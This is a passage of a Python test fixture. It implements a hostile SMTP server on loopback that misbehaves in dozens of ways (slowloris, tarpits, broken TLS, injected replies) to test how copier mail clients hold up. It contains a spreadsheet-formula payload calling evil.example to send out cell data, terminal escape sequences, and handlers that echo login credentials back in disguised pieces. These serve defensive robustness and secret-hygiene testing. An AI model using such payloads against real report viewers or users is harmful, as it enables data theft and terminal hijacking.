"""A hostile SMTP server for the robustness corpus: a raw asyncio server on 127.0.0.1 (port 0)
that misbehaves in a chosen way, the way broken and malicious peers do on the internet.

aiosmtpd is too well-behaved for this (it always ends its lines, always answers, always
speaks TLS properly), so each behaviour is a small coroutine over the raw stream. The
behaviour is chosen per server (`HostileServer("silent", certs)`) or per connection
(`HostileServer(lambda peer_ip: ..., certs)`), so one server can play many sites.

Every behaviour also says what a copier pointed at it looks like (its security and whether
it logs in), so tests and the 200-site sweep build their inventories from the same table.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import socket
import ssl
import struct
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from datetime import timedelta
from typing import Any

from fleet.lab.certs import LabCertificates
from fleet.lab.dns import LabDns

from .conftest import publish_spf
from .inventory_builder import InventoryBuilder, device, lab_defaults

HOST = "hostile.example.test"
BANNER = f"220 {HOST} ESMTP\r\n".encode()
TRICKLE_S = 0.05  # pause between the pieces of a reply that never ends
PASSWORD_ENV = "FLEET_HOSTILE_PASSWORD"  # the devices that log in read their password here


class Conn:
    """One client connection, with what a behaviour needs to misbehave on it."""

    def __init__(
        self, server: HostileServer, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        self.server = server
        self.reader = reader
        self.writer = writer
        peer = writer.get_extra_info("peername")
        self.peer = str(peer[0]) if peer else "?"
        self.tls = False

    @property
    def gone(self) -> bool:
        return self.writer.is_closing() or self.reader.at_eof()

    async def send(self, data: bytes) -> None:
        self.writer.write(data)
        await self.writer.drain()

    async def trickle(self, data: bytes, every_s: float) -> None:
        """Send one byte at a time (slowloris), until done or the client hangs up."""
        for i in range(len(data)):
            if self.gone:
                return
            await self.send(data[i : i + 1])
            await asyncio.sleep(every_s)

    async def line(self) -> bytes | None:
        """The next command line from the client; None when it hung up."""
        try:
            data = await self.reader.readline()
        except (ValueError, ConnectionError, ssl.SSLError):
            return None
        if not data:
            return None
        self.server.lines.append(data)
        return data

    async def hang(self) -> None:
        """Say nothing more, and wait for the client to give up."""
        with contextlib.suppress(ConnectionError, ssl.SSLError):
            while await self.reader.read(65536):
                pass

    async def starttls(self, context: ssl.SSLContext) -> bool:
        try:
            await self.writer.start_tls(context)
        except (ssl.SSLError, ConnectionError, OSError):
            return False  # the client refused our certificate or version: it hangs up
        self.tls = True
        return True

    def reset(self) -> None:
        """Hang up with a TCP RST instead of a FIN (SO_LINGER 0), as a crashing server does."""
        sock = self.writer.get_extra_info("socket")
        if sock is not None:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.writer.transport.abort()


def verb_of(line: bytes) -> str:
    return line.split(b" ", 1)[0].strip().decode("ascii", "replace").upper()


# A handler for one command: it may answer, misbehave, or end the connection (return False).
Handler = Callable[[Conn, bytes], Awaitable[bool]]


def reply(data: bytes) -> Handler:
    async def send(conn: Conn, line: bytes) -> bool:
        await conn.send(data)
        return True

    return send


async def close(conn: Conn, line: bytes) -> bool:
    """Hang up without a word, right after the command arrived."""
    return False


def ehlo_reply(conn: Conn, tls_context: ssl.SSLContext | None) -> bytes:
    extensions = ["PIPELINING", "8BITMIME"]
    if tls_context is not None and not conn.tls:
        extensions.append("STARTTLS")
    if conn.tls:
        extensions.append("AUTH PLAIN LOGIN")
    lines = [f"{HOST} Hello", *extensions]
    return b"".join(
        f"250{'-' if i < len(lines) - 1 else ' '}{text}\r\n".encode()
        for i, text in enumerate(lines)
    )


async def dialogue(
    conn: Conn,
    *,
    banner: bytes | None = BANNER,
    tls: str | None = None,
    on: dict[str, Handler] | None = None,
) -> None:
    """An ordinary SMTP server, except for the commands in `on`. `tls` names the kind of
    certificate STARTTLS presents (see HostileServer.context); None: no STARTTLS."""
    context = conn.server.context(tls) if tls else None
    overrides = on or {}
    if banner is not None:
        await conn.send(banner)
    while (line := await conn.line()) is not None:
        verb = verb_of(line)
        handler = overrides.get(verb)
        if handler is not None:
            if not await handler(conn, line):
                return
            continue
        if verb == "EHLO":
            await conn.send(ehlo_reply(conn, context))
        elif verb == "STARTTLS" and context is not None and not conn.tls:
            await conn.send(b"220 2.0.0 Ready to start TLS\r\n")
            if not await conn.starttls(context):
                return
        elif verb == "AUTH":
            await _auth_ok(conn, line)
        elif verb in ("HELO", "MAIL", "RCPT", "RSET", "NOOP"):
            await conn.send(b"250 2.0.0 OK\r\n")
        elif verb == "QUIT":
            await conn.send(b"221 2.0.0 Bye\r\n")
            return
        else:
            await conn.send(b"500 5.5.1 Command unrecognized\r\n")


async def _auth_ok(conn: Conn, line: bytes) -> None:
    parts = line.split()
    if len(parts) >= 2 and parts[1].upper() == b"LOGIN":
        if len(parts) == 2:
            await conn.send(b"334 VXNlcm5hbWU6\r\n")
            await conn.line()
        await conn.send(b"334 UGFzc3dvcmQ6\r\n")
        await conn.line()
    elif len(parts) == 2:  # AUTH PLAIN without an initial response
        await conn.send(b"334 \r\n")
        await conn.line()
    await conn.send(b"235 2.7.0 Authentication successful\r\n")


async def echo_auth(conn: Conn, line: bytes) -> bool:
    """A careless server that repeats every AUTH line it was sent in its 535 rejection."""
    said = [line.strip()]
    parts = line.split()
    if len(parts) >= 2 and parts[1].upper() == b"LOGIN":
        if len(parts) == 2:
            await conn.send(b"334 VXNlcm5hbWU6\r\n")
            said.append((await conn.line() or b"").strip())
        await conn.send(b"334 UGFzc3dvcmQ6\r\n")
        said.append((await conn.line() or b"").strip())
    elif len(parts) == 2:
        await conn.send(b"334 \r\n")
        said.append((await conn.line() or b"").strip())
    echoed = b" | ".join(said)
    # ... and decoded, in case the base64 was not leak enough
    words = [w for s in said for w in s.split() if w.upper() not in (b"AUTH", b"PLAIN", b"LOGIN")]
    decoded = b" | ".join(_b64_or_raw(w) for w in words).replace(b"\0", b"<NUL>")
    await conn.send(
        b"535-5.7.8 Authentication failed for: " + echoed + b"\r\n"
        b"535 5.7.8 (that is: " + decoded + b")\r\n"
    )
    return True


async def _auth_lines(conn: Conn, line: bytes) -> list[bytes]:
    """Everything the client sent for its AUTH: the command, and the lines it was asked for."""
    said = [line.strip()]
    parts = line.split()
    if len(parts) >= 2 and parts[1].upper() == b"LOGIN":
        if len(parts) == 2:
            await conn.send(b"334 VXNlcm5hbWU6\r\n")
            said.append((await conn.line() or b"").strip())
        await conn.send(b"334 UGFzc3dvcmQ6\r\n")
        said.append((await conn.line() or b"").strip())
    elif len(parts) == 2:
        await conn.send(b"334 \r\n")
        said.append((await conn.line() or b"").strip())
    return said


def _credential(said: list[bytes]) -> bytes:
    """The line that carries the secret: AUTH PLAIN's blob, or AUTH LOGIN's password line."""
    last = said[-1].split()
    return last[-1] if last else b""


async def malformed_auth_echo(conn: Conn, line: bytes) -> bool:
    """A reply that is not SMTP at all (code 5X5), quoting the login line it refuses."""
    said = await _auth_lines(conn, line)
    await conn.send(b"5X5 login refused for: " + said[-1] + b"\r\n")
    return True


async def multiline_auth_echo(conn: Conn, line: bytes) -> bool:
    """A 535 that wraps the credential it quotes over lines of six characters."""
    credential = _credential(await _auth_lines(conn, line))
    pieces = [credential[i : i + 6] for i in range(0, len(credential), 6)]
    lines = [b"Authentication failed for:", *pieces, b"end of reply"]
    await conn.send(
        b"".join(
            b"535" + (b"-" if i < len(lines) - 1 else b" ") + b"5.7.8 " + text + b"\r\n"
            for i, text in enumerate(lines)
        )
    )
    return True


async def truncated_auth_echo(conn: Conn, line: bytes) -> bool:
    """A 535 that quotes the credential cut short (its last five characters missing)."""
    credential = _credential(await _auth_lines(conn, line))
    await conn.send(b"535 5.7.8 bad credentials: " + credential[:-5] + b"...\r\n")
    return True


async def auth_asks_again(conn: Conn, line: bytes) -> bool:
    """Asks for the password again after it came (a 334 loop), and so still expects an
    AUTH line: a QUIT now would be read as one; RFC 4954 4 cancels with `*` (then 501)."""
    await _auth_lines(conn, line)
    await conn.send(b"334 UGFzc3dvcmQ6\r\n")
    answer = await conn.line()
    if answer is None:
        return False
    if answer.strip() == b"*":
        await conn.send(b"501 5.7.0 Authentication cancelled\r\n")
        return True
    await conn.send(b"334 UGFzc3dvcmQ6\r\n")  # the line was taken for the password
    return False


async def quit_echoes_auth(conn: Conn) -> None:
    """Accepts the login, then answers QUIT with a malformed reply quoting it."""
    said: list[bytes] = []

    async def auth(conn: Conn, line: bytes) -> bool:
        said.extend(await _auth_lines(conn, line))
        await conn.send(b"235 2.7.0 Authentication successful\r\n")
        return True

    async def quit_(conn: Conn, line: bytes) -> bool:
        await conn.send(b"2X1 bye, and remember: " + b" ".join(said) + b"\r\n")
        return False

    await dialogue(conn, tls="valid", on={"AUTH": auth, "QUIT": quit_})


def _password_of(said: list[bytes]) -> bytes:
    """The password a login sent: AUTH PLAIN's blob decoded, or AUTH LOGIN's line decoded."""
    decoded = _b64_or_raw(_credential(said))
    return decoded.rsplit(b"\0", 1)[-1]


async def halves_auth_echo(conn: Conn, line: bytes) -> bool:
    """A 535 that quotes the password in two halves, one per line, each after a label."""
    password = _password_of(await _auth_lines(conn, line))
    half = len(password) // 2
    await conn.send(
        b"535-5.7.8 Authentication failed, you sent:\r\n"
        b"535-5.7.8 h1 " + password[:half] + b"\r\n"
        b"535 5.7.8 h2 " + password[half:] + b"\r\n"
    )
    return True


async def invisible_auth_echo(conn: Conn, line: bytes) -> bool:
    """A 535 that quotes the password split by invisible characters: a zero-width space in
    the middle, a soft hyphen after its third character."""
    password = _password_of(await _auth_lines(conn, line)).decode()
    half = len(password) // 2
    split = password[:3] + "\u00ad" + password[3:half] + "\u200b" + password[half:]
    await conn.send(b"535 5.7.8 bad password: " + split.encode() + b"\r\n")
    return True


async def rcpt_quotes_another_login(conn: Conn) -> None:
    """Refuses RCPT quoting the last AUTH line any connection sent this server (a server
    that mixes up its sessions' logs)."""

    async def refuse(conn: Conn, line: bytes) -> bool:
        said = [x.strip() for x in conn.server.lines if x.upper().startswith(b"AUTH ")]
        quoted = said[-1] if said else b"(none)"
        await conn.send(b"550 5.7.1 Relaying denied; last session said: " + quoted + b"\r\n")
        return True

    await dialogue(conn, on={"RCPT": refuse})


def _b64_or_raw(word: bytes) -> bytes:
    try:
        return base64.b64decode(word, validate=True)
    except ValueError:
        return word


# ---- the behaviours -----------------------------------------------------------------------

Serve = Callable[[Conn], Awaitable[None]]


async def silent(conn: Conn) -> None:
    await conn.hang()


async def greets_then_silent(conn: Conn) -> None:
    await conn.send(BANNER)
    await conn.hang()


async def tls_then_silent(conn: Conn) -> None:
    """An implicit TLS server (port 465) that completes the handshake and never greets."""
    if await conn.starttls(conn.server.context("valid")):
        await conn.hang()


async def endless_banner(conn: Conn) -> None:
    await conn.send(b"220 " + HOST.encode() + b" ESMTP")
    while not conn.gone:  # ... and the line never ends
        await conn.send(b" still talking")
        await asyncio.sleep(TRICKLE_S)


async def ten_megabyte_line(conn: Conn) -> None:
    async def huge(conn: Conn, line: bytes) -> bool:
        await conn.send(b"250-" + b"A" * 10_000_000 + b"\r\n250 OK\r\n")
        return True

    await dialogue(conn, on={"EHLO": huge})


NON_UTF8_REJECTION = (
    b"550 5.1.1 <alice@contoso.test>: user unknown \xff\xfe\xc3\x28 \x00 \xed\xa0\x80 \x80\r\n"
)


async def non_utf8(conn: Conn) -> None:
    await dialogue(
        conn,
        banner=b"220 " + HOST.encode() + b" \xff\xfe\x00 ESMTP \xc3\x28\r\n",
        on={"RCPT": reply(NON_UTF8_REJECTION)},
    )


async def busy_at_banner(conn: Conn) -> None:
    await conn.send(b"421 4.3.2 Service not available, closing transmission channel\r\n")


async def refuses_greeting_then_deaf(conn: Conn) -> None:
    """Refuses in its greeting (554), then never answers the QUIT RFC 5321 3.1 expects."""
    await conn.send(b"554 5.7.1 No SMTP service here\r\n")
    await conn.hang()


async def mismatched_multiline(conn: Conn) -> None:
    codes = b"250-" + HOST.encode() + b" Hello\r\n251-PIPELINING\r\n550 8BITMIME\r\n"
    await dialogue(conn, on={"EHLO": reply(codes)})


# What a server that has a site on Spamhaus ZEN says to RCPT: the refusal a reply too many
# must never hide behind a 250 read in its place.
BLOCKED = (
    b"550 5.7.1 Service unavailable; Client host [127.0.0.1] blocked using zen.spamhaus.org\r\n"
)


async def ehlo_lines_without_hyphens(conn: Conn) -> None:
    """A known broken format: each EHLO capability its own `250 ` reply, in one write."""
    lines = b"250 " + HOST.encode() + b" Hello\r\n250 SIZE 10240000\r\n250 8BITMIME\r\n"
    await dialogue(conn, on={"EHLO": reply(lines), "RCPT": reply(BLOCKED)})


async def extra_reply_after_banner(conn: Conn) -> None:
    await dialogue(conn, banner=b"220 hi\r\n250 extra\r\n", on={"RCPT": reply(BLOCKED)})


async def extra_reply_after_mail(conn: Conn) -> None:
    extra = reply(b"250 2.1.0 Sender OK\r\n250 2.0.0 (unsolicited)\r\n")
    await dialogue(conn, on={"MAIL": extra, "RCPT": reply(BLOCKED)})


async def closing_421_after_mail(conn: Conn) -> None:
    """RFC 5321 3.8: a server shutting down says 421 unasked and closes; the client reads
    it after its next command. In the MAIL reply's packet."""

    async def closing(conn: Conn, line: bytes) -> bool:
        await conn.send(b"250 2.1.0 Sender OK\r\n421 4.3.2 smtp.example closing connection\r\n")
        return False

    await dialogue(conn, on={"MAIL": closing})


async def closing_421_alone_after_mail(conn: Conn) -> None:
    """The same 421 in a packet of its own, a moment later: RCPT is on its way by then, so
    it is read as RCPT's answer the ordinary way."""

    async def then_closing(conn: Conn, line: bytes) -> bool:
        await conn.send(b"250 2.1.0 Sender OK\r\n")
        await asyncio.sleep(0.05)
        await conn.send(b"421 4.3.2 Service shutting down, closing transmission channel\r\n")
        return False

    await dialogue(conn, on={"MAIL": then_closing})


async def closing_421_after_rcpt(conn: Conn) -> None:
    """A good conversation, then a 421 with the recipient's 250: the session ends there."""

    async def closing(conn: Conn, line: bytes) -> bool:
        await conn.send(b"250 2.1.5 Recipient OK\r\n421 4.3.2 smtp.example closing connection\r\n")
        return False

    await dialogue(conn, on={"RCPT": closing})


async def rset_421(conn: Conn) -> None:
    await dialogue(conn, on={"RSET": reply(b"421 4.7.0 too many commands, closing\r\n")})


async def rset_not_implemented(conn: Conn) -> None:
    await dialogue(conn, on={"RSET": reply(b"502 5.5.2 command not implemented\r\n")})


async def implicit_tls_extra_reply(conn: Conn) -> None:
    """The same after an implicit TLS handshake (port 465): the greeting and a reply more."""
    if await conn.starttls(conn.server.context("valid")):
        await dialogue(conn, banner=b"220 hi\r\n250 extra\r\n", on={"RCPT": reply(BLOCKED)})


async def mixed_codes_in_rcpt(conn: Conn) -> None:
    """A refusal whose last line says 250: read by its last line, a recipient accepted."""
    refusal = BLOCKED.replace(b"550 ", b"550-", 1) + b"250 2.1.5 OK\r\n"
    await dialogue(conn, on={"RCPT": reply(refusal)})


async def replies_one_behind(conn: Conn) -> None:
    """An unsolicited 250 after MAIL that arrives in a packet of its own, once the next
    command is on its way: every later reply is then one behind its command, and the 550
    meant for RCPT comes back as the answer to RSET."""

    async def behind(conn: Conn, line: bytes) -> bool:
        await conn.send(b"250 2.1.0 Sender OK\r\n")
        if await conn.line() is None:  # RCPT
            return False
        await conn.send(b"250 2.0.0 (unsolicited)\r\n")
        if await conn.line() is None:  # RSET
            return False
        await conn.send(BLOCKED)
        return True

    await dialogue(conn, on={"MAIL": behind})


async def unterminated_multiline(conn: Conn) -> None:
    async def endless(conn: Conn, line: bytes) -> bool:
        await conn.send(b"250-" + HOST.encode() + b" Hello\r\n")
        while not conn.gone:  # continuation lines, and never the last one
            await conn.send(b"250-PIPELINING\r\n")
            await asyncio.sleep(TRICKLE_S)
        return False

    await dialogue(conn, on={"EHLO": endless})


async def code_out_of_range(conn: Conn) -> None:
    await dialogue(conn, on={"EHLO": reply(b"999 " + HOST.encode() + b" says hello\r\n")})


async def code_not_a_number(conn: Conn) -> None:
    await dialogue(conn, banner=b"2X0 " + HOST.encode() + b" ESMTP\r\n")


async def starttls_454(conn: Conn) -> None:
    refuse = reply(b"454 4.7.0 TLS not available due to local problem\r\n")
    await dialogue(conn, tls="valid", on={"STARTTLS": refuse})


def after_client_hello(then: bytes) -> Handler:
    """Say yes to STARTTLS, wait for the client's first TLS bytes, and answer with `then`."""

    async def handler(conn: Conn, line: bytes) -> bool:
        await conn.send(b"220 2.0.0 Ready to start TLS\r\n")
        await conn.reader.read(5)  # the start of the ClientHello
        await conn.send(then)
        await conn.hang()
        return False

    return handler


async def starttls_then_plaintext(conn: Conn) -> None:
    await dialogue(conn, tls="valid", on={"STARTTLS": after_client_hello(BANNER)})


async def starttls_then_garbage(conn: Conn) -> None:
    garbage = bytes(range(256)) * 8
    await dialogue(conn, tls="valid", on={"STARTTLS": after_client_hello(garbage)})


async def starttls_pipelined_plaintext(conn: Conn) -> None:
    """Plain text sent right behind the 220, before the client could start TLS: a client
    that read it as the server's next reply would be open to response injection."""

    async def inject(conn: Conn, line: bytes) -> bool:
        await conn.send(b"220 2.0.0 Ready to start TLS\r\n" + BANNER + ehlo_reply(conn, None))
        await conn.hang()
        return False

    await dialogue(conn, tls="valid", on={"STARTTLS": inject})


async def tls_reset_mid_handshake(conn: Conn) -> None:
    async def reset(conn: Conn, line: bytes) -> bool:
        await conn.send(b"220 2.0.0 Ready to start TLS\r\n")
        await conn.reader.read(5)  # the start of the ClientHello
        conn.reset()
        return False

    await dialogue(conn, tls="valid", on={"STARTTLS": reset})


async def tls_closed_mid_handshake(conn: Conn) -> None:
    async def hang_up(conn: Conn, line: bytes) -> bool:
        await conn.send(b"220 2.0.0 Ready to start TLS\r\n")
        await conn.reader.read(5)
        return False  # a FIN, no alert

    await dialogue(conn, tls="valid", on={"STARTTLS": hang_up})


async def tls_1_0_only(conn: Conn) -> None:
    """An old server that speaks TLS 1.0 at most, and says so with an alert as OpenSSL does.
    (asyncio's own server-side TLS drops the alert when a handshake fails, so the handshake
    is driven here through memory buffers.)"""

    async def old_tls(conn: Conn, line: bytes) -> bool:
        await conn.send(b"220 2.0.0 Ready to start TLS\r\n")
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = conn.server.context("tls_1_0").wrap_bio(incoming, outgoing, server_side=True)
        while True:
            try:
                tls.do_handshake()
                finished = True
            except ssl.SSLWantReadError:
                finished = False
            except ssl.SSLError:
                finished = True  # the alert is in `outgoing`
            if outgoing.pending:
                await conn.send(outgoing.read())
            if finished:
                return False
            data = await conn.reader.read(65536)
            if not data:
                return False
            incoming.write(data)

    await dialogue(conn, tls="tls_1_0", on={"STARTTLS": old_tls})


def tls_with(kind: str) -> Serve:
    async def serve(conn: Conn) -> None:
        await dialogue(conn, tls=kind)

    serve.__name__ = f"tls_{kind}"
    return serve


def close_after(verb: str, tls: str | None = None) -> Serve:
    async def serve(conn: Conn) -> None:
        await dialogue(conn, tls=tls, on={verb: close})

    return serve


async def close_after_ehlo(conn: Conn) -> None:
    async def answer_then_close(conn: Conn, line: bytes) -> bool:
        await conn.send(ehlo_reply(conn, None))
        return False

    await dialogue(conn, on={"EHLO": answer_then_close})


async def slowloris(conn: Conn) -> None:
    await conn.trickle(BANNER, every_s=1.0)
    await conn.hang()


TARPIT_S = 0.3  # each reply's delay: under any command timeout, but it adds up


async def tarpit(conn: Conn) -> None:
    """Every reply comes, each well within a command timeout, but slowly: only the site's
    budget (site_s) bounds the conversation as a whole."""

    async def slowly(conn: Conn, line: bytes) -> bool:
        await asyncio.sleep(TARPIT_S)
        quitting = verb_of(line) == "QUIT"
        await conn.send(b"221 2.0.0 Bye\r\n" if quitting else b"250 2.0.0 OK\r\n")
        return not quitting

    await asyncio.sleep(TARPIT_S)
    await dialogue(conn, on=dict.fromkeys(("EHLO", "MAIL", "RCPT", "RSET", "QUIT"), slowly))


async def endless_4xx(conn: Conn) -> None:
    """Every command deferred, forever: a client with a retry loop would never finish."""
    deferral = b"450 4.3.2 System not accepting network messages\r\n"
    await conn.send(BANNER)
    while (line := await conn.line()) is not None:
        await conn.send(deferral)
        if verb_of(line) == "QUIT":
            return


# A terminal escape (colour, window title, clear screen) and a spreadsheet formula, as a
# malicious server would put in a rejection that ends up in the morning report.
ESCAPE_REJECTION = (
    b'550-=HYPERLINK("http://evil.example/steal?c="&A1,"Click for details")\r\n'
    b"550 5.1.1 \x1b[31m\x1b]0;pwned\x07\x1b[2Juser unknown\x1b[0m\r\n"
)


async def escape_in_rcpt(conn: Conn) -> None:
    await dialogue(conn, on={"RCPT": reply(ESCAPE_REJECTION)})


async def echo_auth_line(conn: Conn) -> None:
    await dialogue(conn, tls="valid", on={"AUTH": echo_auth})


def auth_with(handler: Handler) -> Serve:
    async def serve(conn: Conn) -> None:
        await dialogue(conn, tls="valid", on={"AUTH": handler})

    serve.__name__ = handler.__name__
    return serve


@dataclass(frozen=True)
class Behaviour:
    name: str
    serve: Serve
    security: str = "none"  # what the copier pointed at it uses: none | starttls | tls
    login: bool = False  # the copier logs in (AUTH needs verified TLS first)


BEHAVIOURS: dict[str, Behaviour] = {
    b.name: b
    for b in (
        Behaviour("silent", silent),
        Behaviour("greets_then_silent", greets_then_silent),
        Behaviour("tls_then_silent", tls_then_silent, "tls"),
        Behaviour("endless_banner", endless_banner),
        Behaviour("ten_megabyte_line", ten_megabyte_line),
        Behaviour("non_utf8", non_utf8),
        Behaviour("busy_at_banner", busy_at_banner),
        Behaviour("refuses_greeting_then_deaf", refuses_greeting_then_deaf),
        Behaviour("mismatched_multiline", mismatched_multiline),
        Behaviour("ehlo_lines_without_hyphens", ehlo_lines_without_hyphens),
        Behaviour("extra_reply_after_banner", extra_reply_after_banner),
        Behaviour("extra_reply_after_mail", extra_reply_after_mail),
        Behaviour("closing_421_after_mail", closing_421_after_mail),
        Behaviour("closing_421_alone_after_mail", closing_421_alone_after_mail),
        Behaviour("implicit_tls_extra_reply", implicit_tls_extra_reply, "tls"),
        Behaviour("mixed_codes_in_rcpt", mixed_codes_in_rcpt),
        Behaviour("replies_one_behind", replies_one_behind),
        Behaviour("unterminated_multiline", unterminated_multiline),
        Behaviour("code_out_of_range", code_out_of_range),
        Behaviour("code_not_a_number", code_not_a_number),
        Behaviour("starttls_454", starttls_454, "starttls"),
        Behaviour("starttls_then_plaintext", starttls_then_plaintext, "starttls"),
        Behaviour("starttls_then_garbage", starttls_then_garbage, "starttls"),
        Behaviour("starttls_pipelined_plaintext", starttls_pipelined_plaintext, "starttls"),
        Behaviour("tls_reset_mid_handshake", tls_reset_mid_handshake, "starttls"),
        Behaviour("tls_closed_mid_handshake", tls_closed_mid_handshake, "starttls"),
        Behaviour("expired_certificate", tls_with("expired"), "starttls"),
        Behaviour("self_signed_certificate", tls_with("self_signed"), "starttls"),
        Behaviour("wrong_host_certificate", tls_with("wrong_host"), "starttls"),
        Behaviour("tls_1_0_only", tls_1_0_only, "starttls"),
        Behaviour("close_after_ehlo", close_after_ehlo),
        Behaviour("close_after_auth", close_after("AUTH", tls="valid"), "starttls", login=True),
        Behaviour("close_after_rcpt", close_after("RCPT")),
        Behaviour("slowloris", slowloris),
        Behaviour("tarpit", tarpit),
        Behaviour("endless_4xx", endless_4xx),
        Behaviour("escape_in_rcpt", escape_in_rcpt),
        Behaviour("echo_auth_line", echo_auth_line, "starttls", login=True),
        Behaviour("malformed_auth_echo", auth_with(malformed_auth_echo), "starttls", login=True),
        Behaviour("multiline_auth_echo", auth_with(multiline_auth_echo), "starttls", login=True),
        Behaviour("truncated_auth_echo", auth_with(truncated_auth_echo), "starttls", login=True),
        Behaviour("auth_asks_again", auth_with(auth_asks_again), "starttls", login=True),
        Behaviour("rcpt_quotes_another_login", rcpt_quotes_another_login),
    )
}

# Behaviours outside the corpus of failures (test_hostile_smtp), for the secret hygiene
# tests: one that ends `ok`, and echoes of a password in pieces.
QUIET_LEAKS: dict[str, Behaviour] = {
    b.name: b
    for b in (
        Behaviour("quit_echoes_auth", quit_echoes_auth, "starttls", login=True),
        Behaviour("halves_auth_echo", auth_with(halves_auth_echo), "starttls", login=True),
        Behaviour("invisible_auth_echo", auth_with(invisible_auth_echo), "starttls", login=True),
    )
}


# Servers that accept the recipient, then answer RSET in their own right: no failure.
GOOD_ENDINGS: dict[str, Behaviour] = {
    b.name: b
    for b in (
        Behaviour("closing_421_after_rcpt", closing_421_after_rcpt),
        Behaviour("rset_421", rset_421),
        Behaviour("rset_not_implemented", rset_not_implemented),
    )
}


def echoing(address: str) -> Serve:
    """A healthy server whose EHLO greets the client as `address`, as Exchange and Exim do
    ("Hello [203.0.113.5]"): an IPv4-mapped form, or the private address an on-site relay
    sees."""

    async def serve(conn: Conn) -> None:
        hello = f"250-{HOST} Hello [{address}]\r\n250 8BITMIME\r\n".encode()
        await dialogue(conn, on={"EHLO": reply(hello)})

    return serve


# Healthy servers that echo the client's address in forms that are not its public IP.
ECHOES: dict[str, Behaviour] = {
    name: Behaviour(name, echoing(address))
    for name, address in (
        ("echoes_mapped_client", "::ffff:127.0.0.9"),
        ("echoes_private_client", "192.168.1.50"),
        ("echoes_link_local_client", "fe80::1"),
    )
}


# ---- the server ---------------------------------------------------------------------------


@dataclass
class HostileServer:
    """Serves one behaviour, or one per connection chosen from the client's address."""

    behaviour: str | Callable[[str], str]
    certs: LabCertificates
    host: str = "127.0.0.1"
    port: int = 0
    connections: int = 0
    lines: list[bytes] = field(default_factory=list)  # every command line, all connections
    served: list[str] = field(default_factory=list)  # the behaviour of each connection
    _server: asyncio.Server | None = None
    _tasks: set[asyncio.Task[None]] = field(default_factory=set)  # the behaviours
    _handlers: set[asyncio.Task[None]] = field(default_factory=set)  # the streams' callbacks
    _writers: set[asyncio.StreamWriter] = field(default_factory=set)
    _contexts: dict[str, ssl.SSLContext] = field(default_factory=dict)

    def context(self, kind: str) -> ssl.SSLContext:
        """A server certificate: valid for localhost and 127.0.0.1 (signed by the lab CA),
        expired, self-signed, for another host, or valid but on a TLS 1.0-only server."""
        if kind not in self._contexts:
            certs = self.certs
            makers: dict[str, Callable[[], ssl.SSLContext]] = {
                "valid": lambda: certs.server_context(),
                "expired": lambda: certs.server_context(expires_in=-timedelta(days=3)),
                "self_signed": lambda: certs.self_signed_context("localhost"),
                "wrong_host": lambda: certs.server_context("wrong.example"),
                "tls_1_0": lambda: certs.server_context(max_version=ssl.TLSVersion.TLSv1),
            }
            self._contexts[kind] = makers[kind]()
        return self._contexts[kind]

    async def start(self) -> int:
        # A small read limit: a client line longer than this is a hang-up, not a memory sink.
        self._server = await asyncio.start_server(
            self._serve, self.host, self.port, limit=8192, backlog=1024
        )
        self.port = int(self._server.sockets[0].getsockname()[1])
        return self.port

    async def stop(self) -> None:
        if self._server is None:
            return
        self._server.close()
        for writer in list(self._writers):
            writer.transport.abort()
        for task in list(self._tasks):
            task.cancel()
        await asyncio.gather(*self._tasks, *self._handlers, return_exceptions=True)
        await self._server.wait_closed()
        self._server = None

    def choose(self, peer: str) -> Behaviour:
        name = self.behaviour if isinstance(self.behaviour, str) else self.behaviour(peer)
        return {**QUIET_LEAKS, **GOOD_ENDINGS, **ECHOES, **BEHAVIOURS}[name]

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        handler = asyncio.current_task()
        assert handler is not None
        self._handlers.add(handler)
        conn = Conn(self, reader, writer)
        behaviour = self.choose(conn.peer)
        self.connections += 1
        self.served.append(behaviour.name)
        # The behaviour runs as a task of its own so that `stop` can cancel it without
        # cancelling the stream's callback task (asyncio would log that as an error).
        task = asyncio.ensure_future(behaviour.serve(conn))
        self._tasks.add(task)
        self._writers.add(writer)
        try:
            await task
        except asyncio.CancelledError:
            if not task.cancelled():
                raise  # we were cancelled ourselves, not the behaviour by `stop`
        except (ConnectionError, ssl.SSLError, OSError, asyncio.IncompleteReadError):
            pass  # the client hung up on us: that is what it should do
        finally:
            self._tasks.discard(task)
            self._handlers.discard(handler)
            self._writers.discard(writer)
            writer.transport.abort()


# ---- inventories that point copiers at the behaviours --------------------------------------


def hostile_device(
    behaviour: Behaviour,
    port: int,
    ca_file: str,
    device_id: str = "mfp",
    host: str = "127.0.0.1",
    username: str | None = None,
    **smtp: Any,
) -> dict[str, Any]:
    """One copier that talks to a hostile server the way the behaviour needs: STARTTLS with
    the lab CA, and a login (one AUTH attempt per login per sweep: give each site its own
    `username`). More `smtp` keys as keywords."""
    if behaviour.login:
        login = username or f"scanner-{device_id}@contoso.test"
        smtp["auth"] = {"username": login, "password_env": PASSWORD_ENV}
    return device(
        port,
        ca_file if behaviour.security != "none" else None,
        ident=device_id,
        host=host,
        security=behaviour.security,
        to="alice@contoso.test",
        **smtp,
    )


def publish_contoso(dns: LabDns) -> None:
    """DNS for the healthy neighbour: its copier's host is the MX of contoso.test, and the
    domain's SPF authorises every loopback address the sites send from."""
    dns.add("contoso.test", "MX", "0 localhost")
    publish_spf(dns)


def lab_inventory(
    dns: LabDns,
    *,
    connect_s: float,
    command_s: float,
    site_s: float,
    dns_timeout_s: float = 0.5,
    concurrency: dict[str, int] | None = None,
    blocklists: list[dict[str, str]] | None = None,
) -> InventoryBuilder:
    """`defaults` (resolver: the lab DNS, never the system's) and `blocklists`; no site yet."""
    defaults = lab_defaults(
        dns, connect_s=connect_s, command_s=command_s, site_s=site_s, dns_timeout_s=dns_timeout_s
    )
    if concurrency:
        defaults["concurrency"] = concurrency
    return InventoryBuilder(defaults=defaults, blocklists=list(blocklists or []))


def healthy_site(
    inventory: InventoryBuilder,
    mx_port: int,
    ca_file: str,
    site_id: str = "healthy",
    egress: dict[str, str] | None = None,
) -> InventoryBuilder:
    """Add Direct Send to the Microsoft 365-like MX over verified STARTTLS, with patient
    timeouts of its own: the neighbour that must come out `ok` whatever the others do."""
    return inventory.site(
        site_id,
        device(mx_port, ca_file, host="localhost", to="alice@contoso.test"),
        client="Contoso",
        **({"egress": egress} if egress else {}),
